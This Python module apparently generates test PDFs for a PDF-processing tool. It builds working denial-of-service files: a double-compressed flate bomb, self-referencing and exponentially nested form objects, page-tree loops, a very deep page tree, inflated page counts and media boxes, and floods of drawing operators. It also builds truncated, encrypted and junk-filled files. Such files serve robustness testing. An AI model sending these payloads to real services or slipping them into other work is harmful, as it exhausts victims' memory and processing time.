"""PDFs made to hurt: each is small, and each costs a careless reader its memory, its time or its life."""

import io
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf

HELLO = b"BT /F1 12 Tf 72 700 Td (A page like any other) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, entries: bytes = b"", *, compressed: bool = True) -> bytes:
    if compressed:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def pdf(objects: dict[int, bytes]) -> bytes:
    """A file of these objects; 1 is the catalogue."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    table = b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(size)
    )
    return out + b"xref\n0 %d\n%strailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, start,
    )


def one_page(content: bytes, *, box: bytes = b"0 0 595 842", resources: bytes = b"", **more: bytes) -> bytes:
    """A page that says hello, and after it the page with this content stream."""
    shared = b"/Font << /F1 5 0 R >> " + resources
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 2 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << %s >> >>" % (box, shared),
        4: content, 5: FONT,
        6: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 7 0 R /Resources << %s >> >>" % shared,
        7: stream(HELLO),
    }
    objects.update({int(name[1:]): body for name, body in more.items()})
    return pdf(objects)


def flate_bomb() -> bytes:
    """600 MB of spaces, compressed twice: under two kilobytes."""
    inner = zlib.compressobj(9)
    data = b"".join(inner.compress(b" " * 1_000_000) for _ in range(600)) + inner.flush()
    data = zlib.compress(data, 9)
    return one_page(b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(data), data))


def many_text_operators() -> bytes:
    return one_page(stream(b"BT /F1 9 Tf " + b"(a)Tj " * 1_500_000 + b"ET"))


def many_rectangles() -> bytes:
    return one_page(stream(b"1 1 9 9 re f " * 800_000))


def self_calling_form() -> bytes:
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 8 0 R >> >>")
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 8 0 R >>", o8=form)


def billion_laughs() -> bytes:
    forms = {}
    for level in range(9):
        number = 10 + level
        calls = b"/X Do " * 10 if level < 8 else HELLO
        inside = b"/XObject << /X %d 0 R >> /Font << /F1 5 0 R >>" % (number + 1)
        kind = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << %s >>" % inside
        forms[f"o{number}"] = stream(calls, kind)
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 10 0 R >>", **forms)


def page_tree_loop() -> bytes:
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000 >>",
    })


def lying_count() -> bytes:
    return one_page(stream(HELLO)).replace(b"/Count 2 ", b"/Count 2000000000 ")


def vast_box() -> bytes:
    return one_page(stream(HELLO), box=b"0 0 2000000000 2000000000")


def deep_page_tree() -> bytes:
    """Ten thousand levels of page tree above one page."""
    depth = 10_000
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(depth):
        objects[2 + level] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (3 + level)
    objects[2 + depth] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (1 + depth)
    return pdf(objects)


ATTACKS: dict[str, Callable[[], bytes]] = {
    "flate-bomb": flate_bomb, "text-operators": many_text_operators, "rectangles": many_rectangles,
    "self-calling-form": self_calling_form, "billion-laughs": billion_laughs, "page-tree-loop": page_tree_loop,
    "lying-count": lying_count, "vast-box": vast_box, "deep-page-tree": deep_page_tree,
}


def encrypted(content: bytes, *, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(out, encryption=pikepdf.Encryption(user=user, owner="owner"))
    return out.getvalue()


def broken(good: bytes) -> dict[str, bytes]:
    """Files as they arrive from the web, by what is wrong with them."""
    return {
        "truncated": good[: len(good) * 2 // 3],
        "header-only": b"%PDF-1.7\n",
        "zero": b"",
        "web-page": b"<!doctype html><title>Not found</title>",
        "garbage-before": b"\n\n  junk\n" + good,
        "garbage-after": good + b"\x00" * 4_000 + b"junk",
        "no-password": encrypted(good, user=""),
        "password": encrypted(good, user="secret"),
        "random": bytes(range(256)) * 40,
    }


def write_all(folder: Path, good: bytes) -> None:
    for name, content in broken(good).items():
        (folder / f"{name}.pdf").write_bytes(content)
    for name, attack in ATTACKS.items():
        (folder / f"{name}.pdf").write_bytes(attack())
